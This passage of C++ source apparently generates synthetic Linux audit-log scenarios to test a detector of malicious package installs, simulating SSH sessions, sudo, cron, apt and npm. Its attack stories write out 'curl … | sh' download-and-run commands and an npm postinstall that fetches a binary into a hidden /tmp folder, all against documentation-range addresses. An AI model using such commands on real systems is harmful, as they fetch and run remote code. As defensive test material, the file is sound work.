        {"/usr/sbin/zabbix_agentd", "--foreground", "-c", "/etc/zabbix/zabbix_agentd.conf"});
}

void Scenario::startService(Proc &p, const char *unit, const QByteArray &exe, const QList<QByteArray> &argv)
{
    p = h.fork(m_systemd);
    if (qstrcmp(unit, "systemd-timesyncd") == 0)
        p.t.setIds(997, 997);
    else if (qstrcmp(unit, "zabbix-agent") == 0)
        p.t.setIds(110, 117);
    h.exec(p, exe, argv);
    h.user(m_systemd, "SERVICE_START",
        "unit=" + QByteArray(unit)
            + " comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success");
    h.pause(20, 300);
}

Session Scenario::sshLogin(const QByteArray &user, quint32 uid, const QByteArray &from, int pts)
{
    Session s;
    s.user = user;
    s.uid = uid;
    s.from = from;
    s.pts = "pts" + QByteArray::number(pts);
    // OpenSSH 9.2 re-executes itself for every connection, then forks an unprivileged
    // pre-auth child, and after authentication the user's child, which starts the shell.
    s.monitor = h.fork(m_sshd);
    h.exec(s.monitor, "/usr/sbin/sshd", {"/usr/sbin/sshd", "-D", "-R"});
    Proc preauth = h.fork(s.monitor);
    preauth.t.setIds(105, NogroupGid);
    preauth.t.argv = {"sshd: " + user + " [net]"};
    preauth.t.cwd = "/run/sshd";
    h.pause(60, 400);
    h.exit(preauth);
    s.monitor.t.argv = {"sshd: " + user + " [priv]"};
    const QByteArray where = " exe=\"/usr/sbin/sshd\" hostname=" + from + " addr=" + from + " terminal=ssh res=success";
    h.user(s.monitor, "USER_ACCT", "op=PAM:accounting grantors=pam_permit acct=\"" + user + '"' + where);
    h.user(s.monitor, "CRED_ACQ", "op=PAM:setcred grantors=pam_permit acct=\"" + user + '"' + where);
    h.login(s.monitor, uid);
    h.user(s.monitor, "USER_START",
        "op=PAM:session_open grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,"
        "pam_limits,pam_env,pam_env acct=\""
            + user + '"' + where);
    s.child = h.fork(s.monitor);
    s.child.t.setIds(uid, uid);
    s.child.t.argv = {"sshd: " + user + "@pts/" + QByteArray::number(pts)};
    h.user(s.monitor, "USER_LOGIN",
        "op=login id=" + QByteArray::number(uid) + " exe=\"/usr/sbin/sshd\" hostname=" + from + " addr=" + from
            + " terminal=/dev/pts/" + QByteArray::number(pts) + " res=success");
    s.shell = h.fork(s.child);
    s.shell.t.tty = s.pts;
    s.shell.t.cwd = "/home/" + user;
    s.shell.pathEnv = UserPathEnv;
    h.exec(s.shell, "/bin/bash", {"-bash"});
    h.pause(400, 1500);
    return s;
}

void Scenario::sshLogout(Session &s)
{
    h.exit(s.shell);
    h.exit(s.child);
    const QByteArray where
        = " exe=\"/usr/sbin/sshd\" hostname=" + s.from + " addr=" + s.from + " terminal=ssh res=success";
    h.user(s.monitor, "USER_END",
        "op=PAM:session_close grantors=pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,"
        "pam_limits,pam_env,pam_env acct=\""
            + s.user + '"' + where);
    h.user(s.monitor, "USER_LOGOUT",
        "op=login id=" + QByteArray::number(s.uid) + " exe=\"/usr/sbin/sshd\" hostname=? addr=? terminal=/dev/"
            + s.pts.left(3) + '/' + s.pts.mid(3) + " res=success");
    h.user(s.monitor, "CRED_DISP", "op=PAM:setcred grantors=pam_permit acct=\"" + s.user + '"' + where);
    h.exit(s.monitor);
}

LinuxScenarioExec Scenario::command(Proc &shell, const QByteArray &path, const QList<QByteArray> &argv, qint64 ms)
{
    // bash hashes $PATH lookups with stat(), so it execs the full path straight away.
    Proc child = h.fork(shell);
    const LinuxScenarioExec e = h.exec(child, path, argv);
    h.pause(ms / 2, ms);
    h.exit(child);
    h.pause(300, 2000);
    return e;
}

SudoRun Scenario::sudoStart(Session &s, const QList<QByteArray> &argv, LinuxScenarioExec *commandExec)
{
    SudoRun run;
    run.account = s.user;
    run.sudo = h.fork(s.shell);
    // setuid root: the real uid stays the user's.
    run.sudo.t.euid = run.sudo.t.suid = run.sudo.t.fsuid = 0;
    h.exec(run.sudo, "/usr/bin/sudo", QList<QByteArray> {"sudo"} + argv);
    const QByteArray terminal = " terminal=/dev/" + s.pts.left(3) + '/' + s.pts.mid(3) + " res=success";
    const QByteArray exe = " exe=\"/usr/bin/sudo\" hostname=? addr=?";
    h.user(run.sudo, "USER_ACCT", "op=PAM:accounting grantors=pam_permit acct=\"" + s.user + '"' + exe + terminal);
    QByteArray cmd = "/usr/bin/" + argv.first();
    for (qsizetype i = 1; i < argv.size(); ++i)
        cmd += ' ' + argv.at(i);
    QByteArray encoded;
    AuditLogWriter::appendEncoded(encoded, cmd);
    h.user(run.sudo, "USER_CMD",
        "cwd=\"" + s.shell.t.cwd + "\" cmd=" + encoded + " exe=\"/usr/bin/sudo\" terminal=" + s.pts.left(3) + '/'
            + s.pts.mid(3) + " res=success");
    h.user(run.sudo, "CRED_REFR", "op=PAM:setcred grantors=pam_permit acct=\"root\"" + exe + terminal);
    h.user(run.sudo, "USER_START",
        "op=PAM:session_open grantors=pam_limits,pam_permit,pam_unix acct=\"root\"" + exe + terminal);
    run.monitor = h.fork(run.sudo);
    run.command = h.fork(run.monitor);
    run.command.t.setIds(0, 0);
    run.command.t.tty = "pts" + QByteArray::number(s.pts.mid(3).toInt() + 1); // sudo's own pty
    run.command.pathEnv = RootPathEnv;
    const LinuxScenarioExec e = h.exec(run.command, "/usr/bin/" + argv.first(), argv);
    if (commandExec)
        *commandExec = e;
    return run;
}

void Scenario::sudoEnd(SudoRun &run)
{
    h.exit(run.command);
    h.exit(run.monitor);
    const QByteArray tail = " exe=\"/usr/bin/sudo\" hostname=? addr=? terminal=/dev/" + run.sudo.t.tty.left(3) + '/'
        + run.sudo.t.tty.mid(3) + " res=success";
    h.user(run.sudo, "USER_END", "op=PAM:session_close grantors=pam_limits,pam_permit,pam_unix acct=\"root\"" + tail);
    h.user(run.sudo, "CRED_DISP", "op=PAM:setcred grantors=pam_permit acct=\"root\"" + tail);
    h.exit(run.sudo);
    h.pause(500, 3000);
}

CronRun Scenario::cronStart(const QByteArray &shellCommand, const char *pathEnv)
{
    CronRun run;
    run.child = h.fork(cron);
    run.child.t.argv = {"/usr/sbin/CRON", "-f"}; // Debian's cron renames its job children
    const QByteArray tail = " acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success";
    h.user(run.child, "USER_ACCT", "op=PAM:accounting grantors=pam_permit" + tail);
    h.user(run.child, "CRED_ACQ", "op=PAM:setcred grantors=pam_permit" + tail);
    h.login(run.child, 0);
    h.user(run.child, "USER_START",
        "op=PAM:session_open grantors=pam_loginuid,pam_env,pam_env,pam_permit,pam_unix,pam_limits" + tail);
    run.job = h.fork(run.child);
    run.job.t.cwd = "/root";
    run.job.pathEnv = pathEnv;
    h.exec(run.job, "/bin/sh", {"/bin/sh", "-c", shellCommand});
    return run;
}

void Scenario::cronEnd(CronRun &run)
{
    const QByteArray tail = " acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? terminal=cron res=success";
    h.user(run.child, "CRED_DISP", "op=PAM:setcred grantors=pam_permit" + tail);
    h.user(run.child, "USER_END",
        "op=PAM:session_close grantors=pam_loginuid,pam_env,pam_env,pam_permit,pam_unix,pam_limits" + tail);
    h.exit(run.child);
}

void Scenario::hourlyCron(qint64 offset)
{
    h.setTime(at(offset) + h.rng.between(0, 900));
    CronRun run = cronStart("cd / && run-parts --report /etc/cron.hourly", CrontabPathEnv);
    // dash runs the last command of -c in place: cd, then exec after a $PATH walk.
    run.job.t.cwd = "/";
    h.exec(run.job, "run-parts", {"run-parts", "--report", "/etc/cron.hourly"});
    h.pause(5, 40);
    h.exit(run.job);
    cronEnd(run);
}

void Scenario::runScript(Proc &dpkg, const QByteArray &script, const QList<QByteArray> &args)
{
    // dpkg executes maintainer scripts by path; binfmt_script puts /bin/sh in front.
    Proc child = h.fork(dpkg);
    h.exec(child, script, QList<QByteArray> {script} + args);
    h.pause(40, 400);
    h.exit(child);
}

void Scenario::dropTool(Proc &postinst, const Package &pkg, LinuxScenarioStory &story)
{
    const QByteArray source = "/usr/share/" + pkg.name + '/' + baseName(pkg.dropPath);
    Proc cp = h.fork(postinst);
    h.exec(cp, "cp", {"cp", source, pkg.dropPath});
    // cp: O_WRONLY|O_CREAT|O_EXCL with the source's mode; umask 022 leaves it 0755.
    story.writes.append(h.createFile(cp, pkg.dropPath, 0xc1, 0755, 0100755, pkg.dropPath));
    if (pkg.dropStatic) {
        if (auto *info = const_cast<FileInfo *>(h.fs.find(pkg.dropPath)))
            info->isStatic = true;
    }
    h.exit(cp);
    Proc chmod = h.fork(postinst);
    h.exec(chmod, "chmod", {"chmod", "0755", pkg.dropPath});
    story.writes.append(h.chmodFile(chmod, pkg.dropPath, 0755));
    h.exit(chmod);
}

void Scenario::aptRun(
    Session &s, LinuxScenarioStory &story, const QList<Package> &packages, const QList<QByteArray> &argv)
{
    SudoRun sudo = sudoStart(s, argv, &story.install);
    Proc &apt = sudo.command;
    h.pause(300, 900);
    Proc query = h.fork(apt);
    h.exec(query, "/usr/bin/dpkg", {"/usr/bin/dpkg", "--print-foreign-architectures"});
    h.pause(3, 15);
    h.exit(query);
    h.pause(150, 600);

    // The download: apt's http method drops to _apt, then connects without blocking.
    Proc method = h.fork(apt);
    h.exec(method, "/usr/lib/apt/methods/http", {"/usr/lib/apt/methods/http"});
    method.t.setIds(AptUid, NogroupGid);
    h.pause(20, 120);
    h.connect(method, story.repoAddress.toLatin1().constData(), 80, true, 3);
    h.pause(800, 4000);

    const qint64 historyStart = h.now();
    QList<QByteArray> debs;
    for (const Package &pkg : packages) {
        QByteArray version = pkg.version;
        debs.append("/var/cache/apt/archives/" + pkg.name + '_' + version.replace(':', "%3a") + "_amd64.deb");
    }
    Proc unpack = h.fork(apt);
    unpack.t.cwd = "/"; // apt runs dpkg in DPkg::Run-Directory
    h.exec(unpack, "/usr/bin/dpkg",
        QList<QByteArray> {"/usr/bin/dpkg", "--status-fd", "37", "--no-triggers", "--unpack", "--auto-deconfigure"}
            + debs);
    h.dpkg("startup archives unpack");
    bool manPending = false;
    for (qsizetype i = 0; i < packages.size(); ++i) {
        const Package &pkg = packages.at(i);
        const QByteArray id = pkg.name + ":amd64";
        // dpkg-deb reads the control area first, then streams the data tarball.
        Proc control = h.fork(unpack);
        h.exec(control, "dpkg-deb", {"dpkg-deb", "--control", debs.at(i), "/var/lib/dpkg/tmp.ci"});
        h.pause(10, 40);
        h.exit(control);
        if (pkg.oldVersion.isEmpty()) {
            h.dpkg("install " + id + " <none> " + pkg.version);
            h.dpkg("status half-installed " + id + ' ' + pkg.version);
        } else {
            h.dpkg("upgrade " + id + ' ' + pkg.oldVersion + ' ' + pkg.version);
            h.dpkg("status half-configured " + id + ' ' + pkg.oldVersion);
            if (pkg.prerm)
                runScript(unpack, "/var/lib/dpkg/info/" + pkg.name + ".prerm", {"upgrade", pkg.version});
            h.dpkg("status unpacked " + id + ' ' + pkg.oldVersion);
            h.dpkg("status half-installed " + id + ' ' + pkg.oldVersion);
        }
        Proc data = h.fork(unpack);
        h.exec(data, "dpkg-deb", {"dpkg-deb", "--fsys-tarfile", debs.at(i)});
        h.pause(20, 120);
        for (const QByteArray &bin : pkg.binaries) {
            // Created with mode 0 so that nothing can use it before its mode is set.
            story.writes.append(h.createFile(unpack, bin + ".dpkg-new", 0xc1, 0, 0100000, bin));
            if (auto *info = const_cast<FileInfo *>(h.fs.find(bin + ".dpkg-new")))
                info->mode = 0100755; // fchown/fchmod on the descriptor: not a path event
            if (h.fs.find(bin))
                story.writes.append(h.linkFile(unpack, bin, bin + ".dpkg-tmp", bin));
        }
        if (!pkg.postinst || pkg.dropPath.isEmpty())
            h.pause(10, 80);
        h.exit(data);
        if (pkg.manPages && !manPending) {
            h.dpkg("status triggers-pending man-db:amd64 2.11.2-2");
            manPending = true;
            if (!pkg.oldVersion.isEmpty())
                h.dpkg("status half-installed " + id + ' ' + pkg.oldVersion);
        }
        // Deferred renames after fsync, then the backups go.
        for (const QByteArray &bin : pkg.binaries)
            story.writes.append(h.renameFile(unpack, bin + ".dpkg-new", bin));
        h.dpkg("status unpacked " + id + ' ' + pkg.version);
        for (const QByteArray &bin : pkg.binaries) {
            if (h.fs.find(bin + ".dpkg-tmp"))
                story.writes.append(h.unlinkFile(unpack, bin + ".dpkg-tmp", bin));
        }
        if (pkg.postinst)
            h.fs.add("/var/lib/dpkg/info/" + pkg.name + ".postinst", 0100755).interpreter = "/bin/sh";
        h.pause(50, 300);
    }
    h.exit(unpack);
    h.pause(100, 500);

    Proc configure = h.fork(apt);
    configure.t.cwd = "/";
    h.exec(configure, "/usr/bin/dpkg", {"/usr/bin/dpkg", "--status-fd", "37", "--configure", "--pending"});
    h.dpkg("startup packages configure");
    for (const Package &pkg : packages) {
        const QByteArray id = pkg.name + ":amd64";
        h.dpkg("configure " + id + ' ' + pkg.version + " <none>");
        h.dpkg("status unpacked " + id + ' ' + pkg.version);
        h.dpkg("status half-configured " + id + ' ' + pkg.version);
        if (pkg.postinst) {
            Proc script = h.fork(configure);
            h.exec(script, "/var/lib/dpkg/info/" + pkg.name + ".postinst",
                {"/var/lib/dpkg/info/" + pkg.name + ".postinst", "configure", pkg.oldVersion});
            h.pause(20, 200);
            if (!pkg.dropPath.isEmpty())
                dropTool(script, pkg, story);
            h.pause(10, 100);
            h.exit(script);
        }
        h.dpkg("status installed " + id + ' ' + pkg.version);
    }
    if (manPending) {
        h.dpkg("trigproc man-db:amd64 2.11.2-2 <none>");
        h.dpkg("status half-configured man-db:amd64 2.11.2-2");
        runScript(configure, "/var/lib/dpkg/info/man-db.postinst", {"triggered", "/usr/share/man"});
        h.pause(300, 1500);
        h.dpkg("status installed man-db:amd64 2.11.2-2");
    }
    h.exit(configure);
    h.pause(50, 300);
    const qint64 historyEnd = h.now();
    h.exit(method);

    // apt's history.log: a blank line before every block, two spaces inside the dates.
    QByteArray block = "\nStart-Date: " + localTime(historyStart, true) + "\nCommandline:";
    for (const QByteArray &a : argv)
        block += ' ' + a;
    block += "\nRequested-By: " + s.user + " (" + QByteArray::number(s.uid) + ")\n";
    QByteArray installs, upgrades;
    for (const Package &pkg : packages) {
        QByteArray &list = pkg.oldVersion.isEmpty() ? installs : upgrades;
        if (!list.isEmpty())
            list += ", ";
        list += pkg.name + ":amd64 (" + (pkg.oldVersion.isEmpty() ? "" : pkg.oldVersion + ", ") + pkg.version + ')';
        story.packages.append(QString::fromLatin1(pkg.name + ":amd64"));
    }
    if (!installs.isEmpty())
        block += "Install: " + installs + '\n';
    if (!upgrades.isEmpty())
        block += "Upgrade: " + upgrades + '\n';
    block += "End-Date: " + localTime(historyEnd, true) + '\n';
    h.historyLog += block;
    story.installEnd = toDateTime(historyEnd / 1000 * 1000);
    QByteArray commandLine = argv.join(' ');
    story.commandLine = QString::fromLatin1(commandLine);
    sudoEnd(sudo);
}

// A first run's payload: fork sh -c 'curl … | sh'; the pipeline's curl connects out and
// the piped sh runs a few commands. Everything below the first run goes into `run`.
void Scenario::payload(Proc &parent, quint64 cloneFlags, const QList<QByteArray> &shArgv, const char *address,
    quint16 port, const QList<QList<QByteArray>> &commands, LinuxScenarioRun &run)
{
    Proc sh = h.fork(parent, cloneFlags);
    run.descendants.append(h.exec(sh, "/bin/sh", shArgv));
    Proc curl = h.fork(sh);
    Proc piped = h.fork(sh);
    const QList<QByteArray> curlArgv = shArgv.last().split('|').first().trimmed().split(' ');
    run.descendants.append(h.exec(curl, "curl", curlArgv));
    run.descendants.append(h.exec(piped, "sh", {"sh"}));
    run.egress.append(h.connect(curl, address, port, true, 5));
    h.pause(150, 900);
    h.exit(curl);
    for (const QList<QByteArray> &argv : commands) {
        Proc child = h.fork(piped);
        run.descendants.append(h.exec(child, argv.first(), argv));
        h.pause(2, 30);
        h.exit(child);
    }
    h.exit(piped);
    h.exit(sh);
}

void Scenario::storyA(Session &admin)
{
    LinuxScenarioStory &story = stories[0];
    Package pkg;
    pkg.name = "netpulse";
    pkg.version = "2.3.1-1";
    pkg.postinst = true;
    pkg.dropPath = "/usr/local/bin/netpulse-agent";
    pkg.dropStatic = true;
    story.package = QString::fromLatin1(pkg.name);
    story.version = QString::fromLatin1(pkg.version);
    story.toolPath = QString::fromLatin1(pkg.dropPath);
    h.setTime(at(45 * Minute) + h.rng.between(0, 20 * Second));
    aptRun(admin, story, {pkg}, {"apt-get", "install", "-y", "netpulse"});

    // A few minutes later the admin tries the new tool. It is a Go binary: os/exec
    // vforks, and its child runs /bin/sh with the argv Go was given.
    h.setTime(at(49 * Minute) + h.rng.between(0, 30 * Second));
    LinuxScenarioRun run;
    Proc tool = h.fork(admin.shell);
    run.exec = h.exec(tool, pkg.dropPath, {"netpulse-agent", "--init"});
    h.pause(300, 1500);
    payload(tool, CloneVfork, {"/bin/sh", "-c", "curl -fsSL https://203.0.113.45/x | sh"}, "203.0.113.45", 443,
        {{"id"}, {"uname", "-a"}, {"hostname"}}, run);
    h.pause(200, 800);
    h.exit(tool);
    story.firstRuns.append(run);
}

// Phases, so that the host's pids grow with time: 0 the upgrade, 1 wget's first run,
// 2 rsync's first run from cron.
void Scenario::storyB(Session &admin, int phase)
{
    LinuxScenarioStory &story = stories[1];
    if (phase == 1) {
        // The admin fetches the mirror's release file with the new wget (blocking connect).
        h.setTime(at(19 * Minute) + h.rng.between(0, 30 * Second));
        LinuxScenarioRun wgetRun;
        Proc child = h.fork(admin.shell);
        wgetRun.exec = h.exec(child, "/usr/bin/wget",
            {"wget", "-q", "-O", "/tmp/InRelease", "http://192.0.2.10/debian/dists/bookworm/InRelease"});
        h.pause(5, 30);
        wgetRun.egress.append(h.connect(child, "192.0.2.10", 80, false, 3));
        h.pause(100, 600);
        h.exit(child);
        story.firstRuns.append(wgetRun);
        return;
    }
    if (phase == 2) {
        // The mirror sync in /etc/cron.d (cron's default PATH=/usr/bin:/bin).
        h.setTime(at(30 * Minute) + h.rng.between(0, 2 * Second));
        CronRun cronRun = cronStart(
            "rsync -a --delete rsync://192.0.2.11/debian-security/ /srv/mirror/debian-security/", "/usr/bin:/bin");
        LinuxScenarioRun rsyncRun;
        rsyncRun.exec = h.exec(cronRun.job, "rsync",
            {"rsync", "-a", "--delete", "rsync://192.0.2.11/debian-security/", "/srv/mirror/debian-security/"});
        h.pause(5, 40);
        rsyncRun.egress.append(h.connect(cronRun.job, "192.0.2.11", 873, false, 3));
        h.pause(20 * Second, 70 * Second);
        h.exit(cronRun.job);
        cronEnd(cronRun);
        story.firstRuns.append(rsyncRun);
        return;
    }
    Package rsync;
    rsync.name = "rsync";
    rsync.oldVersion = "3.2.7-1";
    rsync.version = "3.2.7-1+deb12u1";
    rsync.binaries = {"/usr/bin/rsync"};
    rsync.prerm = rsync.postinst = rsync.manPages = true;
    Package wget;
    wget.name = "wget";
    wget.oldVersion = "1.21.3-1+b2";
    wget.version = "1.21.3-1+deb12u1";
    wget.binaries = {"/usr/bin/wget"};
    wget.manPages = true;
    story.package = QStringLiteral("wget");
    story.version = QString::fromLatin1(wget.version);
    story.oldVersion = QString::fromLatin1(wget.oldVersion);
    story.toolPath = QStringLiteral("/usr/bin/wget");
    h.setTime(at(12 * Minute) + h.rng.between(0, 20 * Second));
    aptRun(admin, story, {rsync, wget}, {"apt-get", "upgrade", "-y"});
}

void Scenario::storyCInstall(Session &admin)
{
    LinuxScenarioStory &story = stories[2];
    Package pkg;
    pkg.name = "logsweep";
    pkg.version = "0.9.4-2";
    pkg.postinst = true;
    pkg.dropPath = "/usr/local/bin/logsweepd";
    story.package = QString::fromLatin1(pkg.name);
    story.version = QString::fromLatin1(pkg.version);
    story.toolPath = QString::fromLatin1(pkg.dropPath);
    h.setTime(at(65 * Minute) + h.rng.between(0, 20 * Second));
    aptRun(admin, story, {pkg}, {"apt-get", "install", "-y", "logsweep"});
}

void Scenario::storyCFirstRun()
{
    // The package's timer starts the daemon half an hour later: inside the window.
    LinuxScenarioStory &story = stories[2];
    h.setTime(story.install.time.toMSecsSinceEpoch() + 30 * Minute + h.rng.between(0, 30 * Second));
    m_logsweepd = h.fork(m_systemd);
    LinuxScenarioRun run;
    run.exec = h.exec(m_logsweepd, "/usr/local/bin/logsweepd", {"/usr/local/bin/logsweepd", "--daemon"});
    h.user(m_systemd, "SERVICE_START",
        "unit=logsweep comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success");
    story.firstRuns.append(run);
}

void Scenario::storyCEgress()
{
    // After a long sleep the daemon fetches its second stage: three hours after the install.
    LinuxScenarioStory &story = stories[2];
    h.setTime(story.install.time.toMSecsSinceEpoch() + 182 * Minute + h.rng.between(0, 60 * Second));
    payload(m_logsweepd, CloneFork, {"sh", "-c", "curl -fsSL http://198.51.100.131/x | sh"}, "198.51.100.131", 80,
        {{"uname", "-m"}, {"cat", "/etc/os-release"}}, story.firstRuns[0]);
}

// $PATH as npm's @npmcli/run-script sets it for a package's lifecycle scripts: the
// node_modules/.bin of the package directory and of every directory above it, npm's
// node-gyp shim, then the user's $PATH.
QByteArray npmScriptPath(const QByteArray &packageDir, const QByteArray &userPath)
{
    QByteArray path;
    QByteArray dir = packageDir;
    for (;;) {
        path += (dir == "/" ? QByteArray() : dir) + "/node_modules/.bin:";
        if (dir == "/")
            break;
        dir = dir.lastIndexOf('/') > 0 ? dirName(dir) : QByteArrayLiteral("/");
    }
    return path + "/usr/lib/node_modules/npm/node_modules/@npmcli/run-script/lib/node-gyp-bin:" + userPath;
}

void Scenario::storyD()
{
    LinuxScenarioStory &story = stories[3];
    const QByteArray package = "colorlog-utils";
    const QByteArray project = "/home/lena/src/billing-ui";
    const QByteArray packageDir = project + "/node_modules/" + package;
    const QByteArray agent = "/tmp/.cache-7f3a/telemetry-agent";
    story.package = QString::fromLatin1(package);
    story.version = QStringLiteral("1.4.2");
    story.packages = {story.package + u'@' + story.version};
    story.toolPath = QString::fromLatin1(agent);

    // NodeSource's nodejs, installed after the base system: /usr/bin/npm links to
    // npm-cli.js, whose "#!/usr/bin/env node" makes env exec node through $PATH.
    h.fs.add("/usr/bin/env", 0100755, h.rng.between(153000, 154000));
    h.fs.add("/usr/bin/node", 0100755, h.rng.between(171000, 172000));
    FileInfo &cli = h.fs.add("/usr/lib/node_modules/npm/bin/npm-cli.js", 0100755, h.rng.between(172000, 180000));
    cli.interpreter = "/usr/bin/env";
    cli.interpreterArg = "node";

    // A developer logs in and works on a web project.
    h.setTime(at(254 * Minute) + h.rng.between(0, 30 * Second));
    Session dev = sshLogin("lena", 1002, "10.20.4.63", 1);
    dev.shell.t.cwd = project; // cd is a builtin: no record
    command(dev.shell, "/usr/bin/git", {"git", "log", "--oneline", "-5"}, 40);
    hourlyCron(257 * Minute);

    // npm install: bash execs /usr/bin/npm, binfmt_script runs env, env walks $PATH to
    // node. The kernel passes the script as the path bash used, so node's argv names
    // /usr/bin/npm, not the link's target.
    h.setTime(at(258 * Minute) + h.rng.between(0, 40 * Second));
    Proc npm = h.fork(dev.shell);
    h.exec(npm, "/usr/bin/npm", {"npm", "install", package});
    story.install = h.exec(npm, "node", {"node", "/usr/bin/npm", "install", package});
    story.commandLine = story.install.argv.join(u' ');
    // npm sets process.title, which libuv writes over argv and into comm (prctl
    // PR_SET_NAME): its later records say comm="npm install col" and the PROCTITLE is
    // the title, while the EXECVE record keeps the real argv.
    h.pause(150, 400);
    npm.t.comm = QByteArray("npm install " + package).left(15);
    npm.t.argv = {"npm install " + package};
    // The registry proxy: metadata and tarball over one keep-alive connection.
    story.installEgress.append(h.connect(npm, story.repoAddress.toLatin1().constData(), 443, true, 21));
    h.pause(900, 2500);

    // The package's "postinstall": "node install.js". npm spawns sh through the script
    // $PATH (libuv's execvp probes each directory with execve); dash finds node with
    // stat() and vforks it, so install.js runs as sh's child.
    Proc lifecycle = h.fork(npm);
    lifecycle.t.cwd = packageDir;
    lifecycle.pathEnv = npmScriptPath(packageDir, UserPathEnv);
    story.installDescendants.append(h.exec(lifecycle, "sh", {"sh", "-c", "node install.js"}));
    h.pause(2, 8);
    Proc script = h.vfork(lifecycle);
    story.installDescendants.append(h.exec(script, "/usr/bin/node", {"node", "install.js"}));
    h.pause(40, 120);

    // install.js: execFileSync("curl", …) into a hidden folder in /tmp, chmod +x, then
    // spawn(…, {detached: true}). /tmp is not watched, so no record shows the write.
    const QByteArray url = "https://203.0.113.77/d/telemetry-agent";
    Proc curl = h.fork(script);
    story.installDescendants.append(h.exec(curl, "curl", {"curl", "-fsSL", "-o", agent, url}));
    h.pause(5, 20);
    story.installEgress.append(h.connect(curl, "203.0.113.77", 443, true, 5));
    h.pause(700, 2200);
    FileInfo &binary = h.fs.add(agent, 0100644);
    binary.uid = binary.gid = dev.uid;
    binary.isStatic = true; // a Go binary
    h.exit(curl);
    Proc chmod = h.fork(script);
    story.installDescendants.append(h.exec(chmod, "chmod", {"chmod", "+x", agent}));
    if (auto *info = const_cast<FileInfo *>(h.fs.find(agent)))
        info->mode = 0100755;
    h.pause(1, 3);
    h.exit(chmod);

    // The first run: setsid() before the exec leaves the terminal behind. The agent
    // runs a shell (Go's os/exec vforks) and reaches its C2 while install.js still waits
    // a moment before it exits, so it is still the agent's parent.
    Proc tool = h.fork(script);
    tool.t.tty = "(none)";
    LinuxScenarioRun run;
    run.exec = h.exec(tool, agent, {agent});
    h.pause(200, 600);
    Proc sh = h.fork(tool, CloneVfork);
    run.descendants.append(h.exec(sh, "/bin/sh", {"/bin/sh", "-c", "id; uname -a"}));
    for (const QList<QByteArray> &argv : {QList<QByteArray> {"id"}, QList<QByteArray> {"uname", "-a"}}) {
        Proc child = h.vfork(sh);
        run.descendants.append(h.exec(child, "/usr/bin/" + argv.first(), argv));
        h.pause(1, 5);
        h.exit(child);
    }
    h.exit(sh);
    h.pause(50, 300);
    run.egress.append(h.connect(tool, "198.51.100.203", 443, true, 7));
    story.firstRuns.append(run);
    h.pause(300, 900);
    h.exit(script);
    h.exit(lifecycle);
    h.pause(400, 1500);
    story.installEnd = toDateTime(h.now() / 1000 * 1000);
    h.exit(npm);

    h.pause(20 * Second, 60 * Second);
    command(dev.shell, "/usr/bin/git", {"git", "status", "--short"}, 60);
    h.pause(Minute, 3 * Minute);
    sshLogout(dev);
}

void Scenario::periodicConnects(qint64 until)
{
    // systemd-timesyncd polls the NTP server (UDP: connect returns at once); the zabbix
    // agent's active checks go to the monitoring server. Both inside the approved /24.
    if (m_nextNtp < 0)
        m_nextNtp = at(Minute) + h.rng.between(0, 999);
    for (; m_nextNtp < until; m_nextNtp += 34 * Minute + h.rng.between(0, 30 * Second)) {
        h.setTime(m_nextNtp);
        h.connect(timesyncd, "192.0.2.123", 123, false, 13);
    }
    if (m_nextZabbix < 0)
        m_nextZabbix = at(2 * Minute) + h.rng.between(0, 999);
    for (; m_nextZabbix < until; m_nextZabbix += 10 * Minute + h.rng.between(0, 5 * Second)) {
        h.setTime(m_nextZabbix);
        h.connect(zabbix, "192.0.2.20", 10051, true, 7);
    }
}

void Scenario::build()
{
    LinuxScenarioStory a;
    a.label = QStringLiteral("a");
    a.title = QStringLiteral("Malicious package: its postinst drops /usr/local/bin/netpulse-agent, whose first run "
                             "pipes curl into sh and connects to an unlisted host");
    a.expectMismatchedChain = true;
    a.repoUrl = QStringLiteral("http://packages.netpulse.example/debian");
    a.repoAddress = QStringLiteral("198.51.100.24");
    LinuxScenarioStory b;
    b.label = QStringLiteral("b");
    b.title = QStringLiteral("Approved upgrade: rsync and wget from the internal mirror; their first runs reach "
                             "only approved hosts");
    b.repoUrl = QStringLiteral("http://mirror.corp.example/debian");
    b.repoAddress = QStringLiteral("192.0.2.10");
    b.repoApproved = true;
    LinuxScenarioStory c;
    c.label = QStringLiteral("c");
    c.title = QStringLiteral("Near miss: logsweep's daemon runs inside the window but pipes curl into sh only "
                             "three hours after the install");
    c.repoUrl = QStringLiteral("http://apt.logsweep.example/debian");
    c.repoAddress = QStringLiteral("198.51.100.77");
    LinuxScenarioStory d;
    d.label = QStringLiteral("d");
    d.title = QStringLiteral("npm lifecycle script: a package from the approved registry proxy runs install.js, "
                             "which downloads a binary into /tmp (no audited write) and runs it; its first run "
                             "starts sh and connects to an unlisted host");
    d.expectMismatchedChain = true;
    d.expectedMismatches = {QStringLiteral("host_not_approved"), QStringLiteral("unexpected_child")};
    d.packageManager = QStringLiteral("npm");
    d.writeObserved = false;
    d.repoUrl = QStringLiteral("https://npm.corp.example/");
    d.repoAddress = QStringLiteral("192.0.2.30");
    d.repoApproved = true;
    a.expectedMismatches = {
        QStringLiteral("host_not_approved"), QStringLiteral("repo_not_approved"), QStringLiteral("unexpected_child")};
    stories = {a, b, c, d};

    // Built in time order, so that pids and sessions grow with time as on a real host.
    boot();
    h.setTime(at(3 * Minute) + h.rng.between(0, 20 * Second));
    Session ops = sshLogin("ops", 1001, "10.20.4.35", 0);
    command(ops.shell, "/usr/bin/ls", {"ls", "-la"}, 30);
    command(ops.shell, "/usr/bin/git", {"git", "status", "--short"}, 80);
    opsShell = ops.shell;

    h.setTime(at(5 * Minute) + h.rng.between(0, 20 * Second));
    Session admin = sshLogin("admin", 1000, "10.20.4.21", 1);
    command(admin.shell, "/usr/bin/uptime", {"uptime"}, 10);
    command(admin.shell, "/usr/bin/ls", {"ls", "-la", "/etc/apt/sources.list.d"}, 20);
    storyB(admin, 0);
    hourlyCron(17 * Minute);
    storyB(admin, 1);
    storyB(admin, 2);
    storyA(admin);
    h.setTime(at(53 * Minute) + h.rng.between(0, 30 * Second));
    command(admin.shell, "/usr/bin/grep", {"grep", "-c", "connection reset", "/var/log/syslog"}, 60);
    storyCInstall(admin);
